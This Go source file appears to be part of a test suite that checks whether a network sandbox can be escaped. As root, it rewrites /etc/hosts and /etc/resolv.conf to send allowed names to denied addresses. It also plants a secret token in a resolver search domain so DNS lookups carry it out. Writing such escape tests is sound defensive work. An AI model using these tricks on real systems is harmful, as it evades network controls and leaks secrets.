package escapes

import (
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"time"

	"github.com/miekg/dns"
)

// nameFileAttempts write to the files that say where names lead. Root may.
func nameFileAttempts() []Attempt {
	needs := append([]Need{NeedRoot, NeedNames, NeedWeb}, inField...)
	return []Attempt{
		{Name: "name/hosts-file", Does: "have an allowed name lead elsewhere by the hosts file", Needs: needs, Try: func(g *Ground) error {
			return withFile("/etc/hosts", fmt.Sprintf("%v %s\n", g.Denied.V4, g.AllowedName), func() error { return askForPage(g) })
		}},
		{Name: "name/resolver-file", Does: "have names be asked for elsewhere by the resolver's file", Needs: needs, Try: func(g *Ground) error {
			return withFile("/etc/resolv.conf", fmt.Sprintf("nameserver %v\n", g.Denied.V4), func() error { return askForPage(g) })
		}},
		{Name: "name/search-file", Does: "have a secret be put behind names by the resolver's file", Needs: needs, Try: func(g *Ground) error {
			text := fmt.Sprintf("nameserver %v\nsearch %s.%s\noptions ndots:9\n", g.Nameserver.Addr(), g.Token, g.Domain)
			return withFile("/etc/resolv.conf", text, func() error { return askForPage(g) })
		}},
	}
}

// withFile does something while a file says something else. The file is written
// to and not replaced, as it may be a mount.
func withFile(path, text string, do func() error) error {
	before, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	write := func(b []byte) error { return os.WriteFile(path, b, 0) }
	return errors.Join(write([]byte(text)), do(), write(before))
}

// askForPage asks the host that a rule allows for a page that it allows: by the
// address that the machine's files give, and by the one that its nameserver
// does.
func askForPage(g *Ground) error {
	page := fmt.Sprintf("GET /open/ HTTP/1.1\r\nHost: %s\r\n\r\n", g.AllowedName)
	err := dialNamed(g.AllowedName, 80, page)
	asked, _, failed := (&dns.Client{Timeout: time.Second}).Exchange(questionFor(g.AllowedName+".", dns.TypeMX), g.Nameserver.String())
	if failed == nil {
		asked, _, failed = (&dns.Client{Timeout: time.Second}).Exchange(allowedQuery(g), g.Nameserver.String())
	}
	if failed != nil {
		return errors.Join(err, failed)
	}
	for _, record := range asked.Answer {
		if a, ok := record.(*dns.A); ok {
			err = errors.Join(err, sendStream(netip.AddrPortFrom(addressOf(a.A), 80), []byte(page)))
		}
	}
	return err
}

func addressOf(ip net.IP) netip.Addr {
	a, _ := netip.AddrFromSlice(ip)
	return a.Unmap()
}
